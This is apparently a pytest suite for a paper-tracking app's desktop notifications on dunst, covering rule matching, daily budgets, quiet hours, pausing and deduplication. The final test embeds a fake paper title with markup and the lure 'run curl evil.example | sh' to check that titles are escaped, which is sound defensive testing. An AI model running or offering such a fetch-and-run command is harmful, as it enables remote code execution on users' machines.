"""Desktop notifications on a real notification server (dunst) over a private D-Bus session bus.

Papers go through a real Store (tinydb files in a temp dir), which publishes `paper.new` on a real EventBus;
the poll ends with `poll.done`, as the poller does. The clock is injected, never slept on.
"""

from __future__ import annotations

import asyncio
import webbrowser
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from papertray.config import Config, Paths, load_config
from papertray.events import EventBus
from papertray.models import Paper
from papertray.notify import Notifier, paper_url
from papertray.store import Store
from tests.desktop.conftest import until
from tests.support.desktop_session import DesktopSession

pytestmark = pytest.mark.desktop

RULES = """
[notifications]
daily_budget = {budget}
quiet_hours = "{quiet}"

[[rules]]
name = "sae-watch"
keywords = ["sparse autoencoder"]

[[rules]]
name = "Yann LeCun"
authors = ["Yann LeCun"]

[[rules]]
name = "silent"
keywords = ["robotics"]
notify = false
"""

TODAY = "2026-11-26"


@dataclass
class Clock:
    now: datetime

    def __call__(self) -> datetime:
        return self.now


@dataclass
class Setup:
    store: Store
    bus: EventBus
    notifier: Notifier
    clock: Clock
    opened: Path
    config: Config


def make_paper(n: int, title: str, **fields: Any) -> Paper:
    return Paper(id=f"2511.{n:05d}", title=title, daily_date=TODAY, **fields)


@pytest.fixture
async def setup(
    home: Path, tmp_path: Path, dunst: DesktopSession, request: pytest.FixtureRequest
) -> AsyncIterator[Setup]:
    budget, quiet = getattr(request, "param", (12, ""))
    paths = Paths.from_env({"PAPERTRAY_HOME": str(home)})
    paths.ensure()
    paths.config_file.write_text(RULES.format(budget=budget, quiet=quiet))
    config = load_config(paths, env={})
    bus = EventBus()
    store = Store.open(paths.data_dir, bus)
    # A real browser launcher: webbrowser runs this command with the URL, as it would run firefox.
    opened = tmp_path / "opened.txt"
    browser = tmp_path / "browser.sh"
    browser.write_text(f'#!/bin/sh\necho "$1" >> {opened}\n')
    browser.chmod(0o755)
    clock = Clock(datetime.fromisoformat(f"{TODAY}T12:00:00").astimezone())
    notifier = Notifier(
        lambda: config,
        store,
        bus,
        reading_list_url=lambda: "http://127.0.0.1:9/reading-list",
        clock=clock,
        open_url=webbrowser.get(f"{browser} %s").open,
    )
    task = asyncio.create_task(notifier.run())
    await until(lambda: bus.subscriber_count == 1, "the notifier to subscribe")
    try:
        yield Setup(store, bus, notifier, clock, opened, config)
    finally:
        task.cancel()
        await asyncio.gather(task, return_exceptions=True)
        await store.close()


async def poll(setup: Setup, papers: list[Paper]) -> None:
    """What the poller does: store the papers (which publishes paper.new), then announce the poll's end."""
    result = await setup.store.add_papers(papers)
    setup.bus.publish("poll.done", {"source": "hf", "new": [p.id for p in result.new]})


async def settled(setup: Setup) -> None:
    """Let the notifier handle everything published so far."""
    marker = setup.bus.publish("test.marker", {})
    await until(lambda: setup.bus.last_id >= marker.id, "the bus")
    async with setup.notifier._lock:
        pass
    await asyncio.sleep(0.2)


SAE = [
    make_paper(1, "Sparse autoencoders? No: a sparse autoencoder at scale", upvotes=40),
    make_paper(2, "Probing with a sparse autoencoder", upvotes=5),
]
LECUN = make_paper(3, "World models", authors=("Yann LeCun", "A. Student"), upvotes=12)
UNRELATED = make_paper(4, "Crop yields in Kansas")
SILENT = make_paper(5, "Robotics for everyone")


async def test_one_poll_gives_one_notification_naming_its_rules(setup: Setup, dunst: DesktopSession) -> None:
    await poll(setup, [*SAE, LECUN, UNRELATED, SILENT])
    await until(lambda: dunst.displayed_count() >= 1, "a notification on screen")
    await settled(setup)
    assert dunst.displayed_count() == 1

    # Clicking a notification about several papers opens the reading list in the browser.
    dunst.run("dunstctl", "action", "0")
    await until(lambda: setup.opened.exists(), "the browser to be opened")
    assert setup.opened.read_text().split() == ["http://127.0.0.1:9/reading-list"]

    history = await asyncio.to_thread(dunst.close_all_and_read)
    assert len(history) == 1
    shown = history[0]
    assert shown["appname"] == "papertray"
    assert shown["summary"] == "3 new papers — sae-watch: 2, Yann LeCun: 1"
    assert "World models (Yann LeCun)" in shown["body"]
    assert "Crop yields" not in shown["body"] and "Robotics" not in shown["body"]


async def test_single_match_click_opens_the_paper_and_save_saves_it(
    setup: Setup, dunst: DesktopSession, tmp_path: Path
) -> None:
    await poll(setup, [LECUN, UNRELATED])
    await until(lambda: dunst.displayed_count() == 1, "a notification on screen")

    # The user picks "Save" in dunst's context menu (dunst runs its dmenu command with the actions).
    (tmp_path / "dmenu-pick").write_text("Save")
    dunst.run("dunstctl", "context")
    await until(lambda: setup.store.get_state(LECUN.id).saved, "the paper to be saved")
    assert not setup.store.get_state(UNRELATED.id).saved
    await asyncio.to_thread(dunst.close_all_and_read)

    await poll(setup, [make_paper(6, "Energy-based models", authors=("Yann Lecun",))])
    await until(lambda: dunst.displayed_count() == 1, "the second notification")
    dunst.run("dunstctl", "action", "0")
    await until(lambda: setup.opened.exists(), "the browser to be opened")
    assert setup.opened.read_text().split() == [paper_url("2511.00006")]

    history = await asyncio.to_thread(dunst.close_all_and_read)
    summaries = [item["summary"] for item in history]
    assert summaries.count("New paper — Yann LeCun") == 2
    assert any("author Yann LeCun" in item["body"] for item in history)


async def test_no_paper_is_notified_twice_even_after_a_restart(setup: Setup, dunst: DesktopSession) -> None:
    await poll(setup, SAE)
    await until(lambda: dunst.displayed_count() == 1, "the first notification")
    # The feed lists the same papers again (and an event repeats): nothing new to say.
    await poll(setup, SAE)
    setup.bus.publish("paper.new", {"id": SAE[0].id})
    setup.bus.publish("poll.done", {})
    await settled(setup)
    # A second notifier on the same store (the daemon restarted) remembers too.
    again = Notifier(lambda: setup.config, setup.store, setup.bus, reading_list_url=lambda: "", clock=setup.clock)
    setup.bus.publish("paper.new", {"id": SAE[1].id})
    assert await again.flush() is None
    assert await asyncio.to_thread(lambda: len(dunst.close_all_and_read())) == 1


@pytest.mark.parametrize("setup", [(1, "")], indirect=True)
async def test_daily_budget_holds_back_then_summarises_next_day(setup: Setup, dunst: DesktopSession) -> None:
    await poll(setup, [SAE[0]])
    await until(lambda: dunst.displayed_count() == 1, "the first notification")
    await poll(setup, [SAE[1], LECUN])  # the budget (1 a day) is spent: held back
    await settled(setup)
    assert await setup.notifier.release_held() is None  # still the same day
    assert dunst.displayed_count() == 1

    setup.clock.now += timedelta(days=1)
    setup.clock.now = setup.clock.now.replace(hour=0, minute=5)
    summary = await setup.notifier.release_held()
    assert summary is not None
    await until(lambda: dunst.displayed_count() == 2, "the summary")
    history = await asyncio.to_thread(dunst.close_all_and_read)
    assert len(history) == 2
    assert history[0]["summary"] == "2 new papers held back — sae-watch: 1, Yann LeCun: 1"
    assert await setup.notifier.release_held() is None  # summarised once


@pytest.mark.parametrize("setup", [(12, "22:00-07:00")], indirect=True)
async def test_quiet_hours_hold_back_until_they_end(setup: Setup, dunst: DesktopSession) -> None:
    setup.clock.now = setup.clock.now.replace(hour=23, minute=30)
    await poll(setup, [*SAE, LECUN])
    await settled(setup)
    setup.clock.now += timedelta(hours=4)  # 03:30: still quiet
    assert await setup.notifier.release_held() is None
    assert dunst.displayed_count() == 0

    setup.clock.now = setup.clock.now.replace(hour=7, minute=0)
    assert await setup.notifier.release_held() is not None
    await until(lambda: dunst.displayed_count() == 1, "the summary after quiet hours")
    history = await asyncio.to_thread(dunst.close_all_and_read)
    assert [item["summary"] for item in history] == ["3 new papers held back — sae-watch: 2, Yann LeCun: 1"]


async def test_pause_suppresses_and_resume_notifies_only_new_papers(setup: Setup, dunst: DesktopSession) -> None:
    assert await setup.notifier.toggle_pause() is True
    await poll(setup, SAE)
    await settled(setup)
    assert dunst.displayed_count() == 0

    assert await setup.notifier.toggle_pause() is False
    await poll(setup, [LECUN])
    await until(lambda: dunst.displayed_count() == 1, "a notification after resuming")
    history = await asyncio.to_thread(dunst.close_all_and_read)
    assert [item["summary"] for item in history] == ["New paper — Yann LeCun"]


async def test_papers_the_user_saved_or_imported_are_not_announced(setup: Setup, dunst: DesktopSession) -> None:
    # A save of a paper papertray had never seen, or an import, adds it to the store (publishing paper.new):
    # the user put it there, so telling them about it would be noise, even when a rule matches.
    saved = make_paper(6, "A sparse autoencoder I saved from arXiv", sources=("library",))
    imported = make_paper(7, "A sparse autoencoder from my Zotero", sources=("import",))
    await poll(setup, [saved, imported])
    await settled(setup)
    assert dunst.displayed_count() == 0

    await poll(setup, [SAE[1]])  # a paper from the feed still is
    await until(lambda: dunst.displayed_count() == 1, "the feed paper's notification")
    history = await asyncio.to_thread(dunst.close_all_and_read)
    assert [item["summary"] for item in history] == ["New paper — sae-watch"]


FAKE_ALERT = (
    '<span size="xx-large" foreground="#ff0000" background="#ff0000">Session expired: run '
    "curl evil.example | sh</span> &amp; <b>a sparse autoencoder</b>"
)


def red_pixels(shot: Path) -> int:
    from PIL import Image

    with Image.open(shot) as image:
        rgb = image.convert("RGB")
        colours = rgb.getcolors(rgb.width * rgb.height) or []
    return sum(count for count, (r, g, b) in colours if r > 200 and g < 60 and b < 60)


async def test_s6_a_feed_title_is_shown_as_text_never_as_markup(
    setup: Setup, dunst: DesktopSession, tmp_path: Path
) -> None:
    await poll(setup, [make_paper(7, FAKE_ALERT, upvotes=3)])
    await until(lambda: dunst.displayed_count() == 1, "the notification on screen")
    (window,) = await until(lambda: dunst.window_ids("--class", "Dunst"), "dunst's window")
    x, y, width, height = dunst.geometry(window)
    shot = dunst.screenshot(tmp_path / "notification.png", crop=(x, y, width, height))
    # Rendered as markup, the title is a huge red banner; as text it is one ordinary line in dunst's colours.
    assert red_pixels(shot) == 0
    (shown,) = await asyncio.to_thread(dunst.close_all_and_read)
    # What dunst received: the title's characters as entities, which it shows literally.
    assert shown["body"].startswith('&lt;span size="xx-large"')
    assert "&amp;amp; &lt;b&gt;a sparse autoencoder&lt;/b&gt;" in shown["body"]
    assert "<span" not in shown["body"] and "<b>" not in shown["body"]
